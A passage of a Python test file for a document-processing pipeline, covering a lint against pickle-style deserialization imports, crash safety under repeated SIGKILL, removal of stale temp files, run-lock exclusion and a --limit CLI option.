    unsafe_modules = {"pickle", "cPickle", "_pickle", "dill", "cloudpickle", "joblib", "shelve"}
    problems = []
    for path in sorted((ROOT / "pipeline").rglob("*.py")):
        tree = ast.parse(path.read_text("utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Import | ast.ImportFrom):
                names = [a.name for a in node.names] + [getattr(node, "module", None) or ""]
                if any(n.split(".")[0] in unsafe_modules for n in names):
                    problems.append(f"{path.name}:{node.lineno} imports {names}")
            if (
                isinstance(node, ast.keyword)
                and node.arg in ("allow_pickle", "trusted")
                and isinstance(node.value, ast.Constant)
                and node.value.value is True
            ):
                problems.append(f"{path.name}:{node.value.lineno} {node.arg}=True")
    assert not problems


# --------------------------------------------------------------------------- crash safety


def _corpus(folder: Path, count: int = 15) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for n in range(count - 2):
        text = GOOD_MD.replace("Peru", f"Peru {n}") + f"- Publish report number {n}\n"
        (folder / f"doc{n:02d}.md").write_text(text, "utf-8")
    (folder / "deck.pptx").write_bytes(pptx_bytes("Next steps: convene the child labour committee"))
    (folder / "note.docx").write_bytes(docx_bytes())
    return folder


def _check_outputs(out: Path) -> None:
    """Every output present is complete and readable; only temp files may be partial."""
    for path in out.rglob("*"):
        if path.is_dir() or path.name == LOCK_FILE:
            continue
        if path.is_symlink() and not path.exists():
            continue  # a link into a generation that is not yet current: no file yet
        if path.name.startswith(".") and ".tmp" in path.name:
            continue  # a killed write; the next run deletes it
        if path.parent.name == "documents":
            DocumentResult.model_validate_json(path.read_text("utf-8"))
        elif path.name == "items.jsonl":
            for line in path.read_text("utf-8").splitlines():
                json.loads(line)
        elif path.name == "items.csv":
            with path.open(encoding="utf-8", newline="") as fh:
                table = list(csv.reader(fh))
            assert table[0] == CSV_FIELDS and all(len(r) == len(CSV_FIELDS) for r in table)
        elif path.name == "priorities.sqlite":
            con = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
            try:
                assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
                con.execute("SELECT count(*) FROM items").fetchone()
            finally:
                con.close()
        elif path.suffix == ".json":
            json.loads(path.read_text("utf-8"))
        elif path.suffix == ".parquet":
            import pyarrow.parquet as pq

            pq.read_table(path)
        else:
            raise AssertionError(f"unexpected file {path}")


def _crash_at(step: int, src: Path, out: Path) -> None:
    """Child process: a run that kills itself (SIGKILL) at its `step`-th write step."""
    os.environ[fileio.CRASH_ENV] = str(step)
    fileio.reset_crash_points()
    run_batch([src], out, BatchOptions(jobs=2, timeout=60))
    os._exit(0)


def _kill_at_every_step(src: Path, out: Path, first: int = 1, limit: int = 500) -> list[int]:
    """Run with a SIGKILL at write step `first`, `first + 1`, … (each document result, each
    aggregate file, the generation switch: `fileio.crash_point`) until a run gets through,
    checking every output after each kill. Deterministic: no timing decides where it dies.
    Returns the steps killed at."""
    ctx = multiprocessing.get_context("fork")
    killed = []
    for step in range(first, limit):
        child = ctx.Process(target=_crash_at, args=(step, src, out))
        child.start()
        child.join(300)
        _check_outputs(out)
        if child.exitcode == 0:
            return killed
        assert child.exitcode == -signal.SIGKILL, child.exitcode
        killed.append(step)
    raise AssertionError("the run never got through")


def test_sigkill_at_many_points_never_breaks_an_output(tmp_path: Path) -> None:
    src = _corpus(tmp_path / "in")
    reference = tmp_path / "reference"
    run_batch([src], reference, BatchOptions(jobs=2, timeout=60))
    out = tmp_path / "out"

    def results() -> int:
        return len(list((out / "documents").glob("[!.]*.json")))

    # Killed at every write step of a first run: each kill keeps what was finished.
    killed = _kill_at_every_step(src, out)
    assert len(killed) >= 10  # in results, in the aggregates and at the switch
    assert results() == 15

    # The last run completed the work, removed stale temporary files, and gave exactly
    # what an uninterrupted run gives.
    _check_outputs(out)
    assert not [p for p in out.rglob(".*.tmp*")]
    assert (out / "items.jsonl").read_bytes() == (reference / "items.jsonl").read_bytes()
    assert (out / "items.csv").read_bytes() == (reference / "items.csv").read_bytes()
    assert sorted(p.name for p in (out / "documents").iterdir()) == sorted(
        p.name for p in (reference / "documents").iterdir()
    )

    # Killed at every step of rewriting the summary files: each is the previous or the new
    # version, and all of them are of the same version.
    old = {name: (out / name).read_bytes() for name in ("items.jsonl", "items.csv")}
    for n in range(3):
        (src / f"doc{n:02d}.md").write_text(GOOD_MD + "- Adopt a new national plan\n", "utf-8")
    new_reference = tmp_path / "new-reference"
    run_batch([src], new_reference, BatchOptions(jobs=2, timeout=60))
    new = {name: (new_reference / name).read_bytes() for name in old}
    assert new != old
    seen = set()
    ctx = multiprocessing.get_context("fork")
    for step in range(1, 500):
        child = ctx.Process(target=_crash_at, args=(step, src, out))
        child.start()
        child.join(300)
        _check_outputs(out)
        versions = {
            "new" if (out / name).read_bytes() == new[name] else "old"
            for name in old
            if (out / name).read_bytes() in (old[name], new[name])
        }
        assert len(versions) == 1, (step, versions)  # all old or all new, never a mix
        assert all((out / name).read_bytes() in (old[name], new[name]) for name in old)
        seen |= versions
        if child.exitcode == 0:
            break
        assert child.exitcode == -signal.SIGKILL
    assert seen == {"old", "new"}
    for name in old:
        assert (out / name).read_bytes() == new[name]
    assert not list(out.rglob(".*.tmp*"))
    _check_outputs(out)


def test_stale_temporary_files_are_removed_by_the_next_run(tmp_path: Path) -> None:
    src = tmp_path / "in"
    src.mkdir()
    (src / "good.md").write_text(GOOD_MD, "utf-8")
    out = tmp_path / "out"
    run_batch([src], out, BatchOptions(jobs=1, timeout=60))
    stale = [
        out / ".items.jsonl.k3j2h1.tmp",
        out / ".priorities.sqlite.a8d7f6.tmp",
        out / ".priorities.sqlite.a8d7f6.tmp-journal",
        out / ".manifest.json.zz9.tmp",
        out / "documents" / ".good.md.1234abcd.json.q1w2e3.tmp",
    ]
    for path in stale:
        path.write_bytes(b'{"half": ')
    keep = out / ".report.html.x1y2.tmp"  # not a file the run writes: left alone
    keep.write_bytes(b"<html")
    run_batch([src], out, BatchOptions(jobs=1, timeout=60))
    assert not [p for p in stale if p.exists()]
    assert keep.exists()
    keep.unlink()
    _check_outputs(out)


def test_a_second_run_on_the_same_folder_is_refused_while_one_runs(tmp_path: Path) -> None:
    src = tmp_path / "in"
    src.mkdir()
    (src / "good.md").write_text(GOOD_MD, "utf-8")
    out = tmp_path / "out"
    out.mkdir()
    # Another process holds the run lock (POSIX locks do not conflict within one process).
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import fcntl, sys, time\n"
            f"fh = open({str(out / LOCK_FILE)!r}, 'ab')\n"
            "fcntl.lockf(fh, fcntl.LOCK_EX)\n"
            "print('locked', flush=True)\n"
            "time.sleep(60)\n",
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "locked"
        with pytest.raises(UsageError, match="another `pipeline run`"):
            run_batch([src], out, BatchOptions(jobs=1, timeout=60))
        assert not (out / "manifest.json").exists()
    finally:
        holder.kill()  # SIGKILL: the kernel releases the lock
        holder.wait()
    manifest = run_batch([src], out, BatchOptions(jobs=1, timeout=60))
    assert manifest.counts["processed"] == 1


def test_limits_are_changed_with_the_limit_option(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from pipeline.cli import main

    src = tmp_path / "in"
    src.mkdir()
    (src / "three.pdf").write_bytes(text_pdf(pages=3))
    args = ["run", str(src), "--out", str(tmp_path / "out"), "--jobs", "1", "-q"]
    with pytest.raises(SystemExit) as failed:
        main([*args, "--limit", "max_pages=2"])
    assert failed.value.code == 2
    err = capsys.readouterr().err
    assert "3 pages, over the limit of max_pages=2" in err and "--limit NAME=VALUE" in err
    main([*args, "--limit", "max-pages=3", "--limit", "max_chars_per_page=1000"])  # exit 0
    for bad in ("max_pages=0", "max_pages=many", "no_such_limit=1", "max_pages"):
        with pytest.raises(SystemExit) as usage:
            main([*args, "--limit", bad])
        assert usage.value.code == 1, bad
